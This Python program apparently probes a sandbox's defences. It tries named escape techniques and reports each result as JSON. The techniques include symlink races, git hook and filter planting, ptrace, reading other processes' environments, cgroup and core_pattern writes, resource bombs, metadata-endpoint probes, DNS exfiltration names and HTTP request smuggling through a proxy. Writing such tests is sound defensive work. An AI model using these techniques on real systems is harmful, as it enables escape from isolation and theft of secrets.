"""Run inside of a sandbox: tries each attack that it is told of, and says what came of it.

    python -I -S program.py TARGETS NAME ...     TARGETS: JSON, made by `trial`

Prints one JSON object a line: {"name", "succeeded", "said"}. Harmless also where nothing holds it: it reads,
writes, signals and traces only what was prepared for it, and of the machine itself it asks for the right
without using it. Standard library only.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import signal
import socket
import stat
import sys
from contextlib import suppress
from typing import Any

_libc = ctypes.CDLL(None, use_errno=True)
_TRACE_ATTACH, _TRACE_DETACH = 16, 17
_NEW_USER = 0x10000000
_FOWNER, _SYS_ADMIN, _MKNOD = 3, 21, 27  # capabilities

T: dict[str, Any] = {}


def _call(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _read(path: str) -> str:
    with open(path, "rb") as file:  # noqa: PTH123
        return f"read {len(file.read(100))} bytes"


def _write(path: str) -> str:
    with open(path, "a") as file:  # noqa: PTH123
        file.write("planted")
    return f"wrote {os.path.basename(path)}"  # noqa: PTH119


def _status(field: str) -> str:
    with open("/proc/self/status") as file:  # noqa: PTH123
        return next(line.split()[1] for line in file if line.startswith(field + ":"))


def _capable(number: int) -> bool:
    return bool(int(_status("CapEff"), 16) >> number & 1)


def read_home() -> str:
    seen = [name for name in T["home_names"] if os.path.lexists(f"{T['user_home']}/{name}")]
    return f"saw {len(seen)} names" if seen else _no("nothing of it is there")


def read_sibling() -> str:
    return _read(T["secret"])


def read_database() -> str:
    return _read(T["database"])


def read_by_link() -> str:
    os.symlink(T["secret"], "link-to-read")  # noqa: PTH211
    return _read("link-to-read")


def read_by_proc_root() -> str:
    return _read(f"/proc/1/root{T['secret']}")


def read_environment() -> str:
    found = [name for name in os.environ if T["environment"] in os.environ[name]]
    return f"found {found[0]}" if found else _no("it is not there")


def read_other_environment() -> str:
    with open(f"/proc/{T['victim']}/environ", "rb") as file:  # noqa: PTH123
        return "read it" if T["victim_mark"].encode() in file.read() else _no("another process")


def see_processes() -> str:
    with open(f"/proc/{T['victim']}/cmdline", "rb") as file:  # noqa: PTH123
        return "saw it" if T["victim_mark"].encode() in file.read() else _no("another process")


def read_memory() -> str:
    see_processes()  # or the number is another's here
    os.close(os.open(f"/proc/{T['victim']}/mem", os.O_RDONLY))
    return "opened it"


def search_environments() -> str:
    seen = 0
    for entry in os.listdir("/proc"):  # noqa: PTH208
        with suppress(OSError), open(f"/proc/{entry}/environ", "rb") as file:  # noqa: PTH123
            seen += 1
            if T["environment"].encode() in file.read():
                return f"found it in process {entry}"
    return _no(f"it is in none of {seen}")


def write_sibling() -> str:
    return _write(T["sibling"] + "/beside")


def write_by_link() -> str:
    os.symlink(T["sibling"], "link-to-write")  # noqa: PTH211
    return _write("link-to-write/by-link")


def write_by_hard_link() -> str:
    os.link(T["secret"], "hard-link")
    return "made it"


def write_by_race() -> str:
    os.mkdir("real")  # noqa: PTH102
    os.symlink(T["sibling"], "swap")  # noqa: PTH211
    child = os.fork()
    if child == 0:
        while True:
            for old, new in (("real", "kept"), ("swap", "real"), ("real", "swap"), ("kept", "real")):
                with suppress(OSError):
                    os.rename(old, new)  # noqa: PTH104
    try:
        for _ in range(3000):
            with suppress(OSError):
                _write("real/by-race")
            if os.path.exists(T["sibling"] + "/by-race"):  # noqa: PTH110
                return "wrote outside"
        os.kill(child, signal.SIGKILL)
        os.rename("swap", "real") if not os.path.lexists("real") else None  # noqa: PTH104
        return _write(T["sibling"] + "/by-race")
    finally:
        with suppress(OSError):
            os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def write_git_hook() -> str:
    return _write("repository/.git/hooks/pre-commit")


def write_git_config() -> str:
    return _write("repository/.git/config")


def write_git_filter() -> str:
    """As `git config` writes: beside it, and then in its place."""
    with open("repository/.git/config.lock", "w") as file:  # noqa: PTH123
        file.write('[filter "planted"]\n\tclean = touch planted\n')
    try:
        os.rename("repository/.git/config.lock", "repository/.git/config")  # noqa: PTH104
    except OSError:
        os.unlink("repository/.git/config.lock")  # noqa: PTH108
        raise
    return "set one"


def write_git_folder() -> str:
    os.rename("repository/.git", "repository/kept")  # noqa: PTH104
    os.makedirs("repository/.git/hooks")  # noqa: PTH103
    os.rename("repository/.git", "repository/planted")  # noqa: PTH104
    os.rename("repository/kept", "repository/.git")  # noqa: PTH104
    return "put one there"


def swap_git_file() -> str:
    with suppress(OSError):
        os.rename("tree/.git", "tree/old")  # noqa: PTH104
    return _write("tree/.git")


def swap_submodule() -> str:
    """The file is the worktree's own to write; where it points to is not there."""
    with open("submodule/.git", "w") as file:  # noqa: PTH123
        file.write(f"gitdir: {T['sibling']}\n")
    return f"points to {os.listdir(T['sibling'])}"  # noqa: PTH208


def write_read_only() -> str:
    if not _capable(_SYS_ADMIN):
        _libc.mount(b"none", os.fsencode(os.path.abspath("guarded")), None, 4096 | 32, None)  # noqa: PTH100
    with suppress(OSError):
        os.rename("guarded", "moved")  # noqa: PTH104
        return "moved it"
    return _write("guarded/test_a.py")


def trace() -> str:
    _call(_libc.ptrace(_TRACE_ATTACH, T["victim"], None, None))
    os.waitpid(T["victim"], 0)
    _libc.ptrace(_TRACE_DETACH, T["victim"], None, None)
    return "attached"


def signal_() -> str:
    os.kill(T["victim"], signal.SIGCONT)  # which does nothing to what runs
    return "sent"


def own_device() -> str:
    """The machine's, not one of the sandbox's own."""
    met = [os.fstat(0)]
    with suppress(OSError):
        met.append(os.stat("/dev/null"))  # noqa: PTH116
    owners = {one.st_uid for one in met if [one.st_dev, one.st_ino] == T["null"]}
    if not owners:
        return _no("it has its own")
    return "may change its mode" if os.geteuid() in owners or _capable(_FOWNER) else _no("it is another's")


def make_device() -> str:
    try:
        os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(7, 63))  # a loop device that nothing is on
    except OSError:
        if _capable(_MKNOD):
            return "may make one"
        raise
    os.unlink("disk")  # noqa: PTH108
    return "made it"


def mount() -> str:
    if _capable(_SYS_ADMIN):
        return "may mount"
    _call(_libc.mount(b"none", os.fsencode(os.getcwd()), b"tmpfs", 0, None))  # noqa: PTH109
    return "mounted"


def user_namespace() -> str:
    child = os.fork()
    if child == 0:
        os._exit(0 if _libc.unshare(_NEW_USER) == 0 else ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(code, "unshare")
    return "made it"


def plant_setuid() -> str:
    with open("setuid", "w"):  # noqa: PTH123
        os.chmod("setuid", 0o700)  # noqa: PTH101
    try:
        os.chmod("setuid", 0o4700)  # noqa: PTH101
        kept = os.stat("setuid").st_mode & stat.S_ISUID  # noqa: PTH116
        return "left one" if kept else _no("the bit was dropped")
    finally:
        os.unlink("setuid")  # noqa: PTH108


def gain_by_setuid() -> str:
    return _no("no new privileges") if _status("NoNewPrivs") == "1" else "may gain rights"


def kernel_switch() -> str:
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "opened it"


def leave_limits() -> str:
    """Opens the list of processes of a cgroup above, for writing; writes nothing."""
    with open("/proc/self/mounts") as file:  # noqa: PTH123
        places = [line.split()[1] for line in file if line.split()[2] in ("cgroup", "cgroup2")]
    refused = OSError(errno.ENOENT, "there is no cgroup")
    for place in places:
        try:
            os.close(os.open(f"{place}/cgroup.procs", os.O_WRONLY))
        except OSError as error:
            refused = error
        else:
            return f"opened {place}"
    raise refused


def keyring() -> str:
    _call(_libc.syscall({"x86_64": 250, "aarch64": 219}[os.uname().machine], 0, -3, 1))
    return "got one"


def fork_bomb() -> str:
    children: list[int] = []
    try:
        for _ in range(T["processes"] * 2):
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    return f"{len(children)} processes"


def memory_bomb() -> str:
    taken = bytearray(T["memory_mb"] << 21)
    return f"took {len(taken) >> 20} MB"


def fill_file() -> str:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    return _fill("big", T["file_mb"] * 2)


def fill_temporary() -> str:
    """In files that are each small enough."""
    if not T["own_temporary"]:
        return "it is the machine's"
    for place in ("/tmp", "/dev/shm"):  # noqa: S108
        try:
            for number in range(T["memory_mb"] // T["file_mb"] + 2):
                _fill(f"{place}/{number}", T["file_mb"])
        except OSError as error:
            said = f"{place}: {errno.errorcode[error.errno or 0]}"
        else:
            return f"{place} has no limit"
    return _no(said)


def _fill(path: str, size_mb: int) -> str:
    block = bytes(1 << 20)
    with open(path, "wb", buffering=0) as file:  # noqa: PTH123
        for _ in range(size_mb):
            if file.write(block) < len(block):
                raise OSError(errno.EFBIG, "a part was written")
    return f"wrote {size_mb} MB"


def open_files() -> str:
    opened: list[int] = []
    try:
        while len(opened) < T["files"] * 2:
            opened.append(os.dup(0))
    finally:
        for fd in opened:
            os.close(fd)
    return f"{len(opened)} files"


def flood() -> str:
    while True:
        os.write(2, b"flood " * 10000)


def daemon() -> str:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvpe("sleep", ["sleep", T["daemon_seconds"]], {"PATH": "/usr/bin:/bin"})  # noqa: S606
        os._exit(0)
    return _no("judged from outside")


def _connect(family: int, address: Any) -> str:
    with socket.socket(family) as trial:
        trial.settimeout(5)
        trial.connect(address)
    return "connected"


def reach_api() -> str:
    return _connect(socket.AF_INET, ("127.0.0.1", T["port"]))


def reach_abstract() -> str:
    return _connect(socket.AF_UNIX, "\0" + T["abstract"])


def reach_socket() -> str:
    return _connect_path(T["socket"])


def _connect_path(path: str) -> str:
    """Also one that is longer than the address of a socket may be."""
    folder = os.open(os.path.dirname(path), os.O_PATH)  # noqa: PTH120
    try:
        return _connect(socket.AF_UNIX, f"/proc/self/fd/{folder}/{os.path.basename(path)}")  # noqa: PTH119
    finally:
        os.close(folder)


def reach_gateway() -> str:
    with suppress(OSError):
        return _connect(socket.AF_INET, ("127.0.0.1", T["gateway"]))
    return _connect_path(T["door"])


def _route(host: str) -> str:
    """Connecting a datagram socket sends nothing: it asks the kernel for a way."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as trial:
        trial.connect((host, 53))
    return "there is a way"


def reach_address() -> str:
    return _route("192.0.2.1")


def reach_metadata() -> str:
    return _route("169.254.169.254")


def send_dns() -> str:
    return _route("192.0.2.53")


def _converse(data: bytes) -> str:
    """All that the proxy answers to it."""
    with socket.create_connection(("127.0.0.1", T["proxy"]), timeout=20) as proxy:
        proxy.sendall(data)
        with suppress(OSError):
            proxy.shutdown(socket.SHUT_WR)
        said = b""
        while piece := proxy.recv(65536):
            said += piece
    return said.decode("latin-1")


def _tunnel(*targets: str) -> str:
    """What is not refused, the proxy has at least tried."""
    said = "no answer"
    for target in targets:
        said = _converse(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        if said[8:13] not in (" 400 ", " 403 "):
            return f"{target}: {said[:80]}"
    return _no(said.splitlines()[-1])


def proxy_private() -> str:
    if not T["proxy"]:
        return _route("10.0.0.1")
    return _tunnel("10.0.0.1:443", "192.168.0.1:80", "[fd00::1]:443", "private.example:443")


def proxy_metadata() -> str:
    if not T["proxy"]:
        return _route("169.254.169.254")
    return _tunnel("169.254.169.254:80", "[fd00:ec2::254]:80", "metadata.example:80")


def proxy_api() -> str:
    if not T["proxy"]:
        return reach_api()
    names = ("127.0.0.1", "127.1", "2130706433", "0x7f000001", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]")  # noqa: S104
    return _tunnel(*(f"{name}:{T['port']}" for name in (*names, "localhost")))


def proxy_rebind() -> str:
    return _tunnel(f"rebound.example:{T['port']}") if T["proxy"] else reach_api()


def proxy_unlisted() -> str:
    return (
        _tunnel("unlisted.example:443", "allowed.example.evil.example:443") if T["proxy"] else reach_address()
    )


def proxy_port() -> str:
    return _tunnel("allowed.example:22", f"allowed.example:{T['port']}") if T["proxy"] else reach_address()


def proxy_dns() -> str:
    """Whether the name was resolved is judged from outside."""
    return _tunnel("a-secret.unlisted.example:53", "a-secret.example:443") if T["proxy"] else send_dns()


def proxy_smuggle() -> str:
    """Where the second one arrives is judged from outside."""
    if not T["proxy"]:
        return reach_api()
    site, api = f"allowed.example:{T['site']}", f"127.0.0.1:{T['port']}"
    hidden = f"GET http://{api}/ HTTP/1.1\r\nHost: {api}\r\n\r\n"
    answered = 0
    for head in ("", f"Content-Length: {len(hidden)}\r\nContent-Length: 0\r\n", "Transfer-Encoding : x\r\n"):
        shown = f"GET http://{site}/ HTTP/1.1\r\nHost: {api}\r\n{head}\r\n"
        answered += "the site" in _converse((shown + hidden).encode())
    return _no(f"{answered} of 3 were answered, by the site")


class _Failed(Exception):
    pass


def _no(why: str) -> str:
    raise _Failed(why)


def attempt(name: str) -> dict[str, object]:
    way = globals()[name if name != "signal" else "signal_"]
    try:
        return {"name": name, "succeeded": True, "said": way()}
    except _Failed as failed:
        return {"name": name, "succeeded": False, "said": str(failed)}
    except OSError as error:
        said = errno.errorcode.get(error.errno or 0, type(error).__name__)
        return {"name": name, "succeeded": False, "said": said}
    except MemoryError:
        return {"name": name, "succeeded": False, "said": "MemoryError"}


def main(arguments: list[str]) -> None:
    T.update(json.loads(arguments[0]))
    for name in arguments[1:]:
        print(json.dumps(attempt(name)), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
